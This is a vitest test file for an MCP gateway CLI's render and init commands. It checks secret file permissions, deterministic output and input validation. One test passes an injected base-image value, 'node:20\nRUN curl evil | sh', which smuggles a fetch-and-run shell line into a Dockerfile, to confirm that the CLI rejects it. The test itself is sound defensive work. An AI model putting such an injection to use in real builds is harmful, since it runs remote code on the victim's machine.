import { cp, mkdir, readdir, readFile, rm, stat, writeFile } from 'node:fs/promises';
import { join } from 'node:path';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { parse } from 'yaml';
import { runRender } from '../cli/commands/render.js';
import { hashDirectory } from '../cli/deploy/build-context.js';
import { GatewayError } from '../runtime/errors.js';
import { PACKAGE_ROOT, STACK_FRAME, makeTempDir, removeTempDir, runCli } from './helpers/cli-run.js';

// A full render copies the package's production node_modules into build/app/: seconds on a slow
// disk, so this file renders a handful of times and shares the folder between its tests.
const RENDER_TIMEOUT = 180_000;
const HEADER_VALUE = 'Bearer sk-docs-4c2e9b';

function mode(path: string): Promise<number> {
  return stat(path).then((s) => s.mode & 0o777);
}

/** Every secret value of the project, read back from .secrets/. */
async function projectSecrets(dir: string): Promise<string[]> {
  const keys = JSON.parse(await readFile(join(dir, '.secrets/signing-keys.json'), 'utf8')) as { keys: Array<{ privateJwk: { d: string } }> };
  return [
    ...keys.keys.map((key) => key.privateJwk.d),
    (await readFile(join(dir, '.secrets/state-key'), 'utf8')).trim(),
    (await readFile(join(dir, '.secrets/redis-password'), 'utf8')).trim(),
    HEADER_VALUE,
  ];
}

async function listFilesUnder(dir: string): Promise<string[]> {
  return (await readdir(dir, { recursive: true, withFileTypes: true })).filter((e) => e.isFile()).map((e) => join(e.parentPath, e.name));
}

describe('mcp-gateway render', () => {
  let root: string;
  let dir: string;
  let deploy: string;
  let first: Awaited<ReturnType<typeof runCli>>;
  beforeAll(async () => {
    root = await makeTempDir();
    dir = join(root, 'gw');
    const init = await runCli([
      'init',
      '--dir',
      dir,
      '--yes',
      '--provider',
      'local',
      '--allowed-users',
      'alice',
      '--domain',
      'mcp.example.com',
      '--email',
      'ops@example.com',
    ]);
    expect(init.stderr).toBe('');
    for (const args of [['time'], ['docs', '--url', 'https://docs.example.net/mcp', '--header', `Authorization=${HEADER_VALUE}`]]) {
      const added = await runCli(['add-server', ...args, '--dir', dir]);
      expect(added.code, added.stderr).toBe(0);
    }
    deploy = join(dir, 'deploy');
    first = await runCli(['render', '--dir', dir]);
  }, RENDER_TIMEOUT);
  afterAll(async () => {
    if (root) await removeTempDir(root);
  });

  it('writes the deploy folder of the contract and says what it wrote', async () => {
    expect(first.stderr).toBe('');
    expect(first.code).toBe(0);
    for (const path of [
      'compose.yaml',
      'config/mcp-gateway.yaml',
      'secrets/auth.env',
      'secrets/redis.env',
      'secrets/bridge-time.env',
      'secrets/bridge-docs.env',
      'traefik/traefik.yml',
      'traefik/dynamic.yml',
      'build/runtime-node.Dockerfile',
      'build/runtime-python.Dockerfile',
      'build/app/bin/mcp-gateway.js',
      'build/app/dist/cli/main.js',
      'build/app/package.json',
    ]) {
      expect((await stat(join(deploy, path))).isFile(), path).toBe(true);
      expect(first.stdout).toContain(path.startsWith('build/app/') ? 'build/app/' : path);
    }
    expect(first.stdout).toContain('docker compose up -d');
    const compose = parse(await readFile(join(deploy, 'compose.yaml'), 'utf8')) as {
      name: string;
      services: Record<string, { image: string; labels: Record<string, string> }>;
    };
    expect(compose.name).toBe('mcpgw-gw');
    expect(Object.keys(compose.services)).toEqual(['redis', 'auth', 'traefik', 'bridge-docs', 'bridge-time']);
    expect(compose.services['bridge-time']!.image).toMatch(/^mcp-gateway-runtime-python:/);
    expect(compose.services['bridge-docs']!.image).toMatch(/^mcp-gateway-runtime-node:/);
    expect(compose.services['bridge-time']!.labels).toMatchObject({
      'io.mcp-gateway.project': 'mcpgw-gw',
      'io.mcp-gateway.service': 'bridge-time',
      'io.mcp-gateway.server': 'time',
    });
    // The .gitignore keeps the folder (secrets, a copy of node_modules) and the logs out of git.
    expect((await readFile(join(dir, '.gitignore'), 'utf8')).split('\n')).toEqual(expect.arrayContaining(['deploy/', 'logs/']));
    expect((await stat(join(dir, 'logs'))).isDirectory()).toBe(true);
  });

  it('copies the production dependencies, not the dev dependencies, as files', async () => {
    const modules = join(deploy, 'build/app/node_modules');
    expect((await stat(join(modules, 'express/package.json'))).isFile()).toBe(true);
    expect((await stat(join(modules, 'yaml'))).isDirectory()).toBe(true);
    for (const dev of ['vitest', 'typescript', 'oidc-provider', 'autocannon']) await expect(stat(join(modules, dev)), dev).rejects.toThrow();
    const links = (await readdir(join(deploy, 'build'), { recursive: true, withFileTypes: true })).filter((e) => e.isSymbolicLink());
    expect(links).toEqual([]);
  });

  it('keeps every secret in 0600 env files of a 0700 folder, and none in compose.yaml, config/ or traefik/', async () => {
    expect(await mode(join(deploy, 'secrets'))).toBe(0o700);
    for (const file of await readdir(join(deploy, 'secrets'))) expect(await mode(join(deploy, 'secrets', file)), file).toBe(0o600);
    const auth = await readFile(join(deploy, 'secrets/auth.env'), 'utf8');
    expect(auth).toMatch(/^MCPGW_SIGNING_KEYS='\{"version":1,/m);
    expect(auth).toMatch(/^MCPGW_STATE_KEY='[A-Za-z0-9_-]{43}'$/m);
    expect(await readFile(join(deploy, 'secrets/bridge-docs.env'), 'utf8')).toContain(`MCPGW_UPSTREAM_HEADERS='{"Authorization":"${HEADER_VALUE}"}'`);
    expect(await mode(join(dir, '.secrets/redis-password'))).toBe(0o600);

    const secrets = await projectSecrets(dir);
    const open = [
      join(deploy, 'compose.yaml'),
      ...(await listFilesUnder(join(deploy, 'config'))),
      ...(await listFilesUnder(join(deploy, 'traefik'))),
      join(deploy, 'build/runtime-node.Dockerfile'),
    ];
    for (const file of open) {
      const text = await readFile(file, 'utf8');
      for (const secret of secrets) expect(text.includes(secret), `${file} holds a secret`).toBe(false);
    }
    expect(first.stdout.includes(HEADER_VALUE)).toBe(false);
    const config = parse(await readFile(join(deploy, 'config/mcp-gateway.yaml'), 'utf8')) as { store: unknown; publicUrl: string };
    expect(config.store).toEqual({ type: 'redis', url: 'redis://redis:6379/0', keyPrefix: 'mcpgw:' });
    expect(config.publicUrl).toBe('https://mcp.example.com');
  });

  it(
    'rerenders byte for byte the same folder when nothing changed',
    async () => {
      const before = await hashDirectory(deploy);
      const again = await runCli(['render', '--dir', dir]);
      expect(again.code, again.stderr).toBe(0);
      expect(await hashDirectory(deploy)).toBe(before);
      expect(await readdir(dir)).not.toContain(expect.stringMatching(/^\.deploy\./));
    },
    RENDER_TIMEOUT,
  );

  it('leaves the previous folder as it was when a secret is missing', async () => {
    const before = await hashDirectory(deploy);
    const headers = join(dir, '.secrets/servers/docs.headers.json');
    const saved = await readFile(headers, 'utf8');
    await rm(headers);
    try {
      const result = await runCli(['render', '--dir', dir]);
      expect(result.code).toBe(1);
      expect(result.stderr).toMatch(/^error: the header values of server docs are missing/m);
      expect(result.stderr).toMatch(/^hint: /m);
      expect(result.stderr).not.toMatch(STACK_FRAME);
    } finally {
      await writeFile(headers, saved, { mode: 0o600 });
    }
    expect(await hashDirectory(deploy)).toBe(before);
  });

  it('leaves the previous folder as it was when the render fails half-way, and no temp folder behind', async () => {
    // A package whose production dependency is not installed: the render fails while copying build/app/.
    const broken = join(root, 'broken-package');
    await mkdir(broken);
    for (const entry of ['templates', 'bin', 'dist']) await cp(join(PACKAGE_ROOT, entry), join(broken, entry), { recursive: true });
    await writeFile(
      join(broken, 'package.json'),
      JSON.stringify({ name: 'mcp-gateway', version: '9.9.9', dependencies: { 'not-installed-anywhere': '1.0.0' } }),
    );
    const before = await hashDirectory(deploy);
    const failure = await runRender({ dir }, { packageRoot: broken, version: '9.9.9', output: { stdout: () => {}, stderr: () => {} } }).catch(
      (err: unknown) => err,
    );
    expect(failure).toBeInstanceOf(GatewayError);
    expect((failure as GatewayError).message).toContain('not-installed-anywhere');
    expect(await hashDirectory(deploy)).toBe(before);
    expect((await readdir(dir)).filter((name) => name.startsWith('.deploy.'))).toEqual([]);
  });

  it('refuses a base image that is not an image reference, before writing anything', async () => {
    const before = await hashDirectory(deploy);
    const result = await runCli(['render', '--dir', dir, '--base-image', 'node:20\nRUN curl evil | sh']);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/^error: --base-image is not an image reference/m);
    expect(await hashDirectory(deploy)).toBe(before);
  });

  it('refuses to replace a folder it did not write', async () => {
    const other = join(root, 'not-a-deploy-folder');
    await mkdir(other);
    await writeFile(join(other, 'notes.txt'), 'mine');
    const result = await runCli(['render', '--dir', dir, '--out', other]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/is not a deploy folder written by mcp-gateway render/);
    expect(await readdir(other)).toEqual(['notes.txt']);
  });
});

describe('mcp-gateway render: configuration errors', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await makeTempDir();
  });
  afterAll(async () => {
    await removeTempDir(dir);
  });

  it('refuses router: traefik without deploy.email, naming init --email, and writes nothing', async () => {
    expect((await runCli(['init', '--dir', dir, '--yes', '--provider', 'local', '--allowed-users', 'alice', '--domain', 'mcp.example.com'])).code).toBe(0);
    const result = await runCli(['render', '--dir', dir]);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/^error: deploy\.email is required with router: traefik/m);
    expect(result.stderr).toMatch(/^hint: .*--email/m);
    expect(await readdir(dir)).not.toContain('deploy');
  });
});

describe('mcp-gateway init: deployment flags', () => {
  let dir: string;
  beforeAll(async () => {
    dir = await makeTempDir();
  });
  afterAll(async () => {
    await removeTempDir(dir);
  });

  it('--domain sets the public URL and deploy.domain; --email, --router and --routing go to deploy', async () => {
    const result = await runCli([
      'init',
      '--dir',
      dir,
      '--yes',
      '--provider',
      'local',
      '--allowed-users',
      'alice',
      '--domain',
      'example.com',
      '--email',
      'ops@example.com',
      '--router',
      'builtin',
      '--routing',
      'subdomain',
    ]);
    expect(result.stderr).toBe('');
    expect(result.code).toBe(0);
    const config = parse(await readFile(join(dir, 'mcp-gateway.yaml'), 'utf8')) as { publicUrl: string; deploy: Record<string, unknown> };
    expect(config.publicUrl).toBe('https://example.com');
    expect(config.deploy).toMatchObject({ domain: 'example.com', email: 'ops@example.com', router: 'builtin', routing: 'subdomain' });
    // A Docker deployment's next step is up (which renders), not serve.
    expect(result.stdout).toMatch(/mcp-gateway up --dir \S+ +start the Docker deployment \(the built-in router, subdomain routing\)/);
  });

  it('keeps an explicit --public-url next to --domain', async () => {
    const result = await runCli([
      'init',
      '--dir',
      dir,
      '--yes',
      '--force',
      '--provider',
      'local',
      '--allowed-users',
      'alice',
      '--domain',
      'example.com',
      '--public-url',
      'https://auth.example.com',
      '--routing',
      'subdomain',
    ]);
    expect(result.code, result.stderr).toBe(0);
    const config = parse(await readFile(join(dir, 'mcp-gateway.yaml'), 'utf8')) as { publicUrl: string; deploy: Record<string, unknown> };
    expect(config.publicUrl).toBe('https://auth.example.com');
    expect(config.deploy).toMatchObject({ domain: 'example.com', routing: 'subdomain', router: 'traefik' });
  });

  it('exits 2 on a router it does not know', async () => {
    const result = await runCli([
      'init',
      '--dir',
      dir,
      '--yes',
      '--force',
      '--provider',
      'local',
      '--allowed-users',
      'alice',
      '--domain',
      'example.com',
      '--router',
      'nginx',
    ]);
    expect(result.code).toBe(2);
    expect(result.stderr).toMatch(/--router/);
  });

  it('refuses an e-mail address that is not one, with the dotted path', async () => {
    const result = await runCli([
      'init',
      '--dir',
      dir,
      '--yes',
      '--force',
      '--provider',
      'local',
      '--allowed-users',
      'alice',
      '--domain',
      'example.com',
      '--email',
      'ops-at-example',
    ]);
    expect(result.code).toBe(1);
    expect(result.stderr).toMatch(/^ {2}deploy\.email: /m);
  });
});
